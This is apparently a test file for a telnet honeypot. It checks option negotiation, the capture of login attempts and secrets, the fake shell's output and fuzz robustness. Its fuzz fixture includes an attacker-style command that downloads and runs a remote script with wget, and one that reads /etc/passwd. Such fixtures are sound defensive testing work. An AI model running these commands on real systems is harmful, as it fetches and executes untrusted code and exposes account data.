import { SERVICE_EVENTS } from '@decnet/decky-kit';
import { FUZZ_RUNS, mutatedExchange } from '@decnet/decky-kit/testing';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DO, DONT, IAC, OPT, SB, SE, TelnetParser, WILL, WONT } from './iac.js';
import { OPENING, createTelnetMachine, type TelnetMachine } from './protocol.js';

const OPTIONS = {
  hostname: 'srv01',
  banner: 'Ubuntu 22.04.4 LTS',
  accept: [{ username: 'root', password: 'admin' }],
  clientIp: '203.0.113.5',
  serverIp: '10.0.0.7',
  now: () => new Date('2024-06-10T12:00:00Z'),
};

function text(step: { replies: readonly (string | Uint8Array)[] }): string {
  return step.replies.map((r) => (typeof r === 'string' ? r : Buffer.from(r).toString('latin1'))).join('');
}

function login(m: TelnetMachine, user: string, pass: string) {
  m.feed(Buffer.from([IAC, WONT, OPT.TSPEED]));
  m.feed(Buffer.from(`${user}\r\n`));
  return m.feed(Buffer.from(`${pass}\r\n`));
}

describe('telnet negotiation is minimal and never loops', () => {
  it('opens exactly like Linux telnetd (what nmap matches)', () => {
    expect(Buffer.from(text(createTelnetMachine(OPTIONS).start()), 'latin1')).toEqual(Buffer.from([255, 253, 24, 255, 253, 32, 255, 253, 35, 255, 253, 39]));
    expect(OPENING).toHaveLength(12);
  });

  it('answers a repeated option request once', () => {
    const p = new TelnetParser();
    const replies = [];
    for (let i = 0; i < 100; i++) replies.push(...p.push(Buffer.from([IAC, DO, 5])).replies);
    expect(replies).toEqual([Buffer.from([IAC, WONT, 5])]);
  });

  it('agrees to echo and suppress-go-ahead, refuses other options, and reads the terminal type', () => {
    const p = new TelnetParser();
    const r = p.push(Buffer.from([IAC, DO, OPT.ECHO, IAC, DO, OPT.SGA, IAC, DO, 99, IAC, WILL, OPT.TTYPE, IAC, SB, OPT.TTYPE, 0, ...Buffer.from('XTERM'), IAC, SE, 0x61, IAC, IAC]));
    expect(r.replies).toEqual([
      Buffer.from([IAC, WILL, OPT.ECHO]),
      Buffer.from([IAC, WILL, OPT.SGA]),
      Buffer.from([IAC, WONT, 99]),
      Buffer.from([IAC, DO, OPT.TTYPE]),
      Buffer.from([IAC, SB, OPT.TTYPE, 1, IAC, SE]),
    ]);
    expect(r.terminalType).toBe('XTERM');
    expect(r.data).toEqual(Buffer.from([0x61, 0xff]));
  });

  it('bounds a subnegotiation that never ends', () => {
    const p = new TelnetParser();
    const r = p.push(Buffer.concat([Buffer.from([IAC, SB, OPT.TTYPE]), Buffer.alloc(100_000, 0x41)]));
    expect(r.data).toHaveLength(0);
    expect(p.push(Buffer.from([IAC, SE, 0x62])).data).toEqual(Buffer.from('b'));
  });
});

describe('the telnet machine captures every login and hands accepted ones a shell', () => {
  it('shows the banner and login prompt once the client answers the negotiation', () => {
    const m = createTelnetMachine(OPTIONS);
    m.start();
    const t = text(m.feed(Buffer.from([IAC, WONT, OPT.TSPEED])));
    expect(t).toContain('\r\nUbuntu 22.04.4 LTS\r\nsrv01 login: ');
    expect(t).toContain(String.fromCharCode(IAC, WILL, OPT.ECHO));
  });

  it('shows the prompt to a silent client when nudged, once', () => {
    const m = createTelnetMachine(OPTIONS);
    expect(text(m.nudge())).toContain('srv01 login: ');
    expect(text(m.nudge())).toBe('');
  });

  it('echoes the user name, hides the password and logs the exact secret', () => {
    const m = createTelnetMachine(OPTIONS);
    m.feed(Buffer.from([IAC, DONT, OPT.TSPEED]));
    expect(text(m.feed(Buffer.from('ro')))).toBe('ro');
    expect(text(m.feed(Buffer.from('ot\r\0')))).toBe('ot\r\nPassword: ');
    const step = m.feed(Buffer.from('s3cr\u00e9t\r\n'));
    expect(text(step)).not.toContain('s3cr');
    const ev = step.events.find((e) => e.type === 'auth_attempt');
    expect(Buffer.from(String(ev?.fields?.['secret_b64']), 'base64').toString('utf8')).toBe('s3cr\u00e9t');
    expect(ev?.fields?.['outcome']).toBe('failure');
    expect(text(step)).toContain('Login incorrect');
  });

  it('runs shell commands after a good login and summarises the session at the end', () => {
    const m = createTelnetMachine(OPTIONS);
    const ok = login(m, 'root', 'admin');
    expect(text(ok)).toContain('Welcome to Ubuntu 22.04.4 LTS');
    expect(text(ok)).toMatch(/root@srv01:~# $/);
    const cmd = m.feed(Buffer.from('uname -a\r\n'));
    expect(text(cmd)).toContain('Linux srv01 5.15.0-113-generic');
    expect(cmd.events).toEqual([{ type: 'command', fields: { cmd: 'uname -a', cwd: '/root', user: 'root', channel: 'shell' } }]);
    const bye = m.feed(Buffer.from('exit\r\n'));
    expect(bye.close).toBe(true);
    const end = m.end('server_closed');
    expect(end.events[0]?.type).toBe('session_recorded');
    expect(end.events[0]?.fields?.['commands']).toBe(2);
  });

  it('passes keystrokes typed ahead of the shell prompt to the shell', () => {
    const m = createTelnetMachine(OPTIONS);
    m.feed(Buffer.from([IAC, WONT, OPT.TSPEED]));
    const step = m.feed(Buffer.from('root\r\nadmin\r\nid\r\n'));
    expect(step.events.map((e) => e.type)).toEqual(['auth_attempt', 'command']);
  });
});

const KNOWN = new Set(Object.keys(SERVICE_EVENTS.telnet));
const EXCHANGE: (string | Uint8Array)[] = [
  Buffer.from([IAC, WILL, OPT.TTYPE, IAC, WONT, OPT.TSPEED, IAC, WONT, OPT.XDISPLOC, IAC, WONT, OPT.NEW_ENVIRON]),
  Buffer.from([IAC, SB, OPT.TTYPE, 0, ...Buffer.from('XTERM-256COLOR'), IAC, SE, IAC, DO, OPT.SGA, IAC, DO, OPT.ECHO]),
  'root',
  'wrong',
  'root',
  'admin',
  'cd /tmp && wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh',
  'cat /etc/passwd | grep root',
  Buffer.from([0x1b, 0x5b, 0x41, 0x7f, 0x7f, 0x03, IAC, 244]),
  'exit',
];

describe('the telnet machine survives any mutation of a real exchange', () => {
  it('never throws, emits only catalogued events with credentials intact, and is silent after close', () => {
    fc.assert(
      fc.property(mutatedExchange(EXCHANGE), fc.boolean(), (chunks, nudge) => {
        const m = createTelnetMachine(OPTIONS);
        let closed = false;
        let out = 0;
        const check = (step: ReturnType<TelnetMachine['feed']>): void => {
          if (closed) expect(step.replies).toHaveLength(0);
          for (const e of step.events) {
            expect(KNOWN.has(e.type)).toBe(true);
            if (e.type === 'auth_attempt') expect(typeof e.fields?.['secret_b64']).toBe('string');
          }
          out += text(step).length;
          if (step.close) closed = true;
        };
        check(m.start());
        if (nudge) check(m.nudge());
        for (const c of chunks) check(m.feed(c));
        check(m.end('peer_closed'));
        expect(out).toBeLessThan(2_000_000);
      }),
      { numRuns: FUZZ_RUNS },
    );
  });

  it('never throws on arbitrary bytes dense in IAC', () => {
    fc.assert(
      fc.property(fc.array(fc.uint8Array({ maxLength: 200 }).map((a) => a.map((b) => (b % 3 === 0 ? 255 : b))), { maxLength: 20 }), (chunks) => {
        const m = createTelnetMachine(OPTIONS);
        m.start();
        for (const c of chunks) m.feed(c);
        m.end('peer_closed');
      }),
      { numRuns: FUZZ_RUNS },
    );
  });
});
